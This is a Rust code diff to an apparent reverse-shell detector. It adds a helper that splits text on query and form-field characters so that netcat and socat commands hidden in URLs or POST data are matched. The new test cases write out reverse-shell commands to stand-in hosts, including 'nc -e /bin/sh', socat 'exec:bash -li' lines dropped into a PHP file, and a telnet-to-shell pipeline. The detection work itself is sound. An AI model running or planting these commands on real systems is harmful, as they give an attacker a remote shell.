@@ -360,14 +360,23 @@ fn socket_snippet(t: &str) -> Option<Hit> {
     })
 }
 
+/// The words of a segment split on blanks, quotes, brackets and the characters that join a
+/// word to a URL's query or a form field (`?cmd=nc`, `cmd=socat`).
+fn data_words(seg: &str) -> Vec<&str> {
+    seg.split(|c: char| {
+        c.is_whitespace()
+            || matches!(
+                c,
+                '"' | '\'' | '\\' | '(' | ')' | '`' | '{' | '}' | '=' | '?' | ','
+            )
+    })
+    .filter(|w| !w.is_empty())
+    .collect()
+}
+
 fn nc_exec(t: &str) -> Option<Hit> {
     for seg in t.split([';', '|', '\n', '&']) {
-        let words: Vec<&str> = seg
-            .split(|c: char| {
-                c.is_whitespace() || matches!(c, '"' | '\'' | '\\' | '(' | ')' | '`' | '{' | '}')
-            })
-            .filter(|w| !w.is_empty())
-            .collect();
+        let words = data_words(seg);
         for (i, w) in words.iter().enumerate() {
             if !NETCATS.iter().any(|n| basename(w).eq_ignore_ascii_case(n)) {
                 continue;
@@ -492,7 +501,7 @@ fn shell_pipeline(t: &str) -> Option<Hit> {
 fn socat_exec(t: &str) -> Option<Hit> {
     let lower = t.to_ascii_lowercase();
     for seg in lower.split([';', '|', '\n']) {
-        if !seg.split_whitespace().any(|w| basename(w) == "socat") {
+        if !data_words(seg).iter().any(|w| basename(w) == "socat") {
             continue;
         }
         let network = ["tcp", "udp", "ssl", "sctp"]
@@ -559,6 +568,15 @@ mod tests {
                 "shell_pipeline",
             ),
             ("telnet h 23 | /bin/sh | telnet h 24", "shell_pipeline"),
+            ("curl 'http://h/x.php?cmd=nc%20-e%20/bin/sh%20h%204444'", "nc_exec"),
+            (
+                "echo 'socat tcp:h:1 exec:'\\''bash -li'\\'',pty' > s.php",
+                "socat_exec",
+            ),
+            (
+                "curl -d 'cmd=socat%20tcp%3Ah%3A1%20exec%3A%27bash%20-li%27' http://h/",
+                "socat_exec",
+            ),
             (
                 "socat tcp-connect:10.0.0.1:4444 exec:'bash -li',pty,stderr,setsid",
                 "socat_exec",
